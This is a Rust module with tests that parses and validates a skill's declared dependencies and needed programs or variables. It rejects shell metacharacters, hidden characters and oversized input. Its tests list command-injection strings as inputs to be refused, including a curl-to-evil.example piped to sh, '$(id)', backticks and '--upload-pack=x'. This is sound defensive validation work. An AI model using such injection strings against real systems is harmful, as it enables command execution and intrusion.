//! What a skill needs beside its own files, as its author states it under `metadata`: other skills
//! (`requires`), and programs and variables (`needs`).
//!
//! Each is one text, because the standard allows only texts there, with commas between its parts.
//! Nothing here fetches, starts or reads anything: `vault-sources` decides where a required skill
//! may come from, and the commands ask before one is taken.

mod version;

use std::fmt;
use std::str::FromStr;

use schemars::JsonSchema;
use serde::{Serialize, Serializer};
use serde_json::{Map, Value};
use vault_format::name::is_deceptive;
use vault_format::text::quoted;

pub use version::{Version, VersionRange};

/// Maximum number of skills that one skill may require.
pub const MAX_REQUIREMENTS: usize = 32;
/// Maximum number of programs and variables that one skill may name.
pub const MAX_NEEDS: usize = 64;
/// Maximum length of either text, in bytes.
pub const MAX_STATED_BYTES: usize = 4096;
/// Maximum length of one requirement, in bytes.
const MAX_PART_BYTES: usize = 1024;

/// The error for a text under `metadata` that cannot be read.
#[derive(Clone, Debug, Eq, PartialEq, thiserror::Error)]
#[error("`metadata.{key}` {reason}")]
pub struct UnreadableNeeds {
    /// The key: `requires` or `needs`.
    pub key: &'static str,
    /// The fault in its value. Foreign text in it is quoted.
    pub reason: String,
}

/// The commits or versions of a skill's source that fulfil a requirement.
#[derive(Clone, Debug, Eq, Ord, PartialEq, PartialOrd)]
pub enum Accepted {
    /// Whatever the source has.
    Any,
    /// This branch, tag, commit or version.
    Revision(String),
    /// The newest version in this range.
    Range(VersionRange),
}

/// A skill that another one requires, as the author wrote it. The source is not checked yet.
#[derive(Clone, Debug, Eq, Ord, PartialEq, PartialOrd)]
pub struct StatedRequirement {
    source: String,
    accepted: Accepted,
}

impl StatedRequirement {
    /// Creates the requirement of a source. Fails if its text would be read as something else.
    pub fn new(source: &str, accepted: Accepted) -> Result<Self, String> {
        let stated = Self {
            source: source.to_owned(),
            accepted,
        };
        match stated.to_string().parse::<Self>() {
            Ok(read) if read == stated => Ok(stated),
            Ok(_) => Err(format!("{} has an `@` or `#`", quoted(source))),
            Err(reason) => Err(reason),
        }
    }

    /// The source without a revision, in a form that `vault add` accepts.
    pub fn source(&self) -> &str {
        &self.source
    }

    /// The commits or versions that fulfil it.
    pub const fn accepted(&self) -> &Accepted {
        &self.accepted
    }
}

impl fmt::Display for StatedRequirement {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.source)?;
        match &self.accepted {
            Accepted::Any => Ok(()),
            // Behind an `@`, a slash would belong to an address.
            Accepted::Revision(name) if name.contains('/') => write!(f, "#{name}"),
            Accepted::Revision(name) => write!(f, "@{name}"),
            Accepted::Range(range) => write!(f, "@{range}"),
        }
    }
}

impl FromStr for StatedRequirement {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        let text = text.trim();
        if text.is_empty() {
            return Err("has an empty part between commas".to_owned());
        }
        if text.len() > MAX_PART_BYTES {
            return Err(format!("has a part of more than {MAX_PART_BYTES} bytes"));
        }
        if text.contains(',') || text.chars().any(is_deceptive) {
            return Err(format!(
                "has a comma or hidden characters in {}",
                quoted(text)
            ));
        }
        let (source, accepted) = split_revision(text)?;
        // A prefix with nothing behind it, such as `github:`.
        let is_bare = source.trim_end_matches(['/', ':']).is_empty() || source.ends_with(':');
        if is_bare || source.starts_with('-') || source.chars().any(char::is_whitespace) {
            return Err(format!("names no source in {}", quoted(text)));
        }
        // Commands are shown for people and agents to copy, so nothing that a shell would act on may
        // be part of them. No source and no tag needs more.
        let is_plain = |text: &str| {
            text.bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || b"._~:/@+-".contains(&byte))
        };
        let is_name_plain = match &accepted {
            Accepted::Revision(name) => is_plain(name),
            Accepted::Any | Accepted::Range(_) => true,
        };
        if !is_plain(source) || !is_name_plain {
            return Err(format!(
                "has other characters than letters, digits and ._~:/@+- in {}",
                quoted(text)
            ));
        }
        Ok(Self {
            source: source.to_owned(),
            accepted,
        })
    }
}

impl Serialize for StatedRequirement {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.collect_str(self)
    }
}

/// Splits `source[@revision or range]` or `source#revision`.
fn split_revision(text: &str) -> Result<(&str, Accepted), String> {
    if let Some((source, name)) = text.rsplit_once('#') {
        check_revision(name)?;
        return Ok((source, Accepted::Revision(name.to_owned())));
    }
    match text.rsplit_once('@') {
        // The `@` of `git@host:path` and of `clawhub:@owner/name` is followed by a colon or a slash,
        // which no range and no tag behind an `@` has.
        Some((source, stated)) if !stated.contains(['/', ':']) => {
            let stated = stated.trim();
            if stated.starts_with(['^', '~', '<', '>', '=']) {
                let range: VersionRange = stated.parse()?;
                return Ok((source.trim_end(), Accepted::Range(range)));
            }
            check_revision(stated)?;
            Ok((source.trim_end(), Accepted::Revision(stated.to_owned())))
        }
        _ => Ok((text, Accepted::Any)),
    }
}

/// Checks the name of a branch, tag, commit or version as far as no source is known.
fn check_revision(name: &str) -> Result<(), String> {
    let is_fine = (1..=255).contains(&name.len())
        && !name.starts_with(['-', '.', '/'])
        && !name.contains("..")
        && !name.contains(|c: char| c.is_whitespace() || "~^:?*[\\@#<>=,".contains(c));
    if is_fine {
        return Ok(());
    }
    Err(format!(
        "names no branch, tag, commit, version or range: {}",
        quoted(name)
    ))
}

/// A program or environment variable that a skill works with, as its author states it. Shown to
/// people; nothing checks or enforces it.
#[derive(Clone, Debug, Eq, Ord, PartialEq, PartialOrd)]
pub enum Need {
    /// A program in `PATH`.
    Program(String),
    /// The name of an environment variable, without the `$`.
    Variable(String),
}

impl fmt::Display for Need {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Program(name) => f.write_str(name),
            Self::Variable(name) => write!(f, "${name}"),
        }
    }
}

impl FromStr for Need {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        let text = text.trim();
        let is_word = |name: &str, more: &str| {
            (1..=64).contains(&name.len())
                && name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || more.contains(c))
        };
        if let Some(name) = text.strip_prefix('$') {
            if is_word(name, "") && !name.starts_with(|c: char| c.is_ascii_digit()) {
                return Ok(Self::Variable(name.to_owned()));
            }
        } else if is_word(text, "-.+") && !text.starts_with(['-', '.', '+']) {
            // A path would be looked up in the current folder, so only a bare name is a program.
            return Ok(Self::Program(text.to_owned()));
        }
        Err(format!(
            "names neither a program nor a variable such as $TOKEN: {}",
            quoted(text)
        ))
    }
}

impl Serialize for Need {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.collect_str(self)
    }
}

impl JsonSchema for Need {
    fn schema_name() -> std::borrow::Cow<'static, str> {
        "Need".into()
    }

    fn json_schema(_: &mut schemars::SchemaGenerator) -> schemars::Schema {
        schemars::json_schema!({
            "type": "string",
            "description": "A program, or a variable of the environment with a `$` before its name.",
        })
    }
}

/// Reads `metadata.requires`: the skills that a skill requires, without repetitions, in the author's
/// order. Empty if there is no such key.
pub fn read_requirements(
    metadata: &Map<String, Value>,
) -> Result<Vec<StatedRequirement>, UnreadableNeeds> {
    read_parts(metadata, "requires", MAX_REQUIREMENTS)
}

/// Reads `metadata.needs`: the programs and variables that a skill works with, without repetitions,
/// in the author's order. Empty if there is no such key.
pub fn read_needs(metadata: &Map<String, Value>) -> Result<Vec<Need>, UnreadableNeeds> {
    read_parts(metadata, "needs", MAX_NEEDS)
}

/// Parses skills that a lock file lists. Fails beyond the bounds of `metadata.requires`.
pub fn parse_requirements(texts: &[String]) -> Result<Vec<StatedRequirement>, String> {
    if texts.len() > MAX_REQUIREMENTS {
        return Err(format!("has more than {MAX_REQUIREMENTS} parts"));
    }
    texts.iter().map(|text| text.parse()).collect()
}

fn read_parts<T: FromStr<Err = String> + PartialEq>(
    metadata: &Map<String, Value>,
    key: &'static str,
    most: usize,
) -> Result<Vec<T>, UnreadableNeeds> {
    let fail = |reason: String| Err(UnreadableNeeds { key, reason });
    let text = match metadata.get(key) {
        None | Some(Value::Null) => return Ok(Vec::new()),
        Some(Value::String(text)) => text.trim(),
        Some(_) => return fail("must be one text, with commas between its parts".to_owned()),
    };
    // Check the size first, so that the work below is bounded.
    if text.len() > MAX_STATED_BYTES {
        return fail(format!("has more than {MAX_STATED_BYTES} bytes"));
    }
    if text.is_empty() {
        return Ok(Vec::new());
    }
    if text.split(',').count() > most {
        return fail(format!("has more than {most} parts"));
    }
    let mut parts: Vec<T> = Vec::new();
    for part in text.split(',') {
        match part.parse() {
            Ok(part) if parts.contains(&part) => {}
            Ok(part) => parts.push(part),
            Err(reason) => return fail(reason),
        }
    }
    Ok(parts)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn metadata(key: &str, value: Value) -> Map<String, Value> {
        Map::from_iter([(key.to_owned(), value)])
    }

    fn requires(text: &str) -> Result<Vec<String>, String> {
        let read = read_requirements(&metadata("requires", json!(text)));
        let texts = |parts: Vec<StatedRequirement>| parts.iter().map(ToString::to_string).collect();
        read.map(texts).map_err(|error| error.reason)
    }

    /// Columns: the text of one requirement, its source, and what it accepts.
    const FORMS: &str = "\
github:acme/skills/pdf | github:acme/skills/pdf | any
github:acme/skills/pdf@v1.2 | github:acme/skills/pdf | v1.2
github:acme/skills/pdf#v1.2 | github:acme/skills/pdf | v1.2
github:acme/skills/pdf#feature/x | github:acme/skills/pdf | feature/x
github:acme/skills/pdf@^1.2 | github:acme/skills/pdf | >=1.2.0 <2.0.0
github:acme/skills/pdf @ >=1.2 <1.5 | github:acme/skills/pdf | >=1.2.0 <1.5.0
clawhub:@owner/name | clawhub:@owner/name | any
clawhub:@owner/name@1.2.3 | clawhub:@owner/name | 1.2.3
git@git.example.com:acme/skills.git | git@git.example.com:acme/skills.git | any
git@git.example.com:acme/skills.git@~2 | git@git.example.com:acme/skills.git | >=2.0.0 <3.0.0
ssh://git@git.example.com/acme/skills | ssh://git@git.example.com/acme/skills | any
git:https://git.example.com/a/b.git//c@main | git:https://git.example.com/a/b.git//c | main
https://docs.example.com/pdf.zip | https://docs.example.com/pdf.zip | any
./skills/pdf | ./skills/pdf | any";

    #[test]
    fn every_form_of_a_requirement_has_one_source_and_one_text() {
        for row in FORMS.lines() {
            let cells: Vec<&str> = row.split(" | ").collect();
            let read: StatedRequirement = cells[0].parse().unwrap();
            let accepted = match read.accepted() {
                Accepted::Any => "any".to_owned(),
                Accepted::Revision(name) => name.clone(),
                Accepted::Range(range) => range.bounds(),
            };
            assert_eq!([read.source(), &accepted], cells[1..], "{row}");
            assert_eq!(read.to_string().parse(), Ok(read), "{row}");
        }
    }

    #[test]
    fn hostile_texts_are_refused_with_the_reason() {
        let many = vec!["github:a/b"; MAX_REQUIREMENTS + 1].join(",");
        let ten_thousand = vec!["github:a/b"; 10_000].join(",");
        let long = format!("github:a/{}", "b".repeat(MAX_PART_BYTES));
        for (text, reason) in [
            (many.as_str(), "more than 32 parts"),
            (&ten_thousand, "more than 4096 bytes"),
            (&long, "more than 1024 bytes"),
            ("github:a/b,,github:a/c", "empty part"),
            ("github:a/b,", "empty part"),
            ("github:", "no source"),
            ("@v1", "no source"),
            ("--upload-pack=x", "no source"),
            ("github:a/b c/d", "no source"),
            ("github:a/b@", "names no branch"),
            ("github:a/b@v1..v2", "names no branch"),
            ("github:a/b#-x", "names no branch"),
            ("github:a/b@v1 v2", "names no branch"),
            ("github:a/b@^x", "is no range"),
            ("github:a/b@>=2 <1", "excludes every version"),
            ("github:a/b;curl${IFS}evil.example|sh", "other characters"),
            ("github:a/b@v1;id|sh", "other characters"),
            ("github:a/b@$(id)", "other characters"),
            ("github:a/b#`id`", "other characters"),
            ("./b`id`", "other characters"),
            (
                "https://docs.example.com/$(id)/SKILL.md",
                "other characters",
            ),
            ("github:a/b'&&id", "other characters"),
            ("github:a/b\\x", "other characters"),
            ("github:a/\u{f6}", "other characters"),
            ("github:a/b\u{202e}", "hidden characters"),
            ("github:a/b\u{7}", "hidden characters"),
        ] {
            let found = requires(text).unwrap_err();
            assert!(found.contains(reason), "{text:.80}: {found}");
        }
        assert_eq!(requires("").unwrap(), Vec::<String>::new());
        let twice = requires("github:a/b@v1 , github:a/b#v1").unwrap();
        assert_eq!(twice, ["github:a/b@v1"]);
    }

    #[test]
    fn only_a_text_is_read_and_an_absent_key_is_nothing() {
        for value in [json!(["github:a/b"]), json!({"bins": ["git"]}), json!(1)] {
            let error = read_requirements(&metadata("requires", value)).unwrap_err();
            assert!(error.to_string().starts_with("`metadata.requires` must be"));
        }
        assert_eq!(read_requirements(&Map::new()), Ok(Vec::new()));
        assert_eq!(read_needs(&metadata("needs", Value::Null)), Ok(Vec::new()));
    }

    #[test]
    fn needs_are_programs_and_variables() {
        let read = |text: &str| read_needs(&metadata("needs", json!(text)));
        let found = read("git, jq,$GITHUB_TOKEN, git, python3.12, g++").unwrap();
        let texts: Vec<String> = found.iter().map(ToString::to_string).collect();
        assert_eq!(texts, ["git", "jq", "$GITHUB_TOKEN", "python3.12", "g++"]);
        assert_eq!(found[2], Need::Variable("GITHUB_TOKEN".to_owned()));
        let many = vec!["git"; MAX_NEEDS + 1].join(",");
        let long = "x".repeat(65);
        for text in [
            "/bin/sh", "./x", "../x", "-x", "a b", "$", "$1A", "${A}", "a;b", "$A-B", &many, &long,
        ] {
            assert!(read(text).is_err(), "{text:.80}");
        }
    }

    #[test]
    fn a_made_requirement_reads_as_itself() {
        let tag = Accepted::Revision("v1".to_owned());
        let made = StatedRequirement::new("github:a/b", tag).unwrap();
        assert_eq!(made.to_string(), "github:a/b@v1");
        assert!(StatedRequirement::new("github:a/b@c", Accepted::Any).is_err());
        assert!(StatedRequirement::new("github:a/b#c", Accepted::Any).is_err());
    }
}
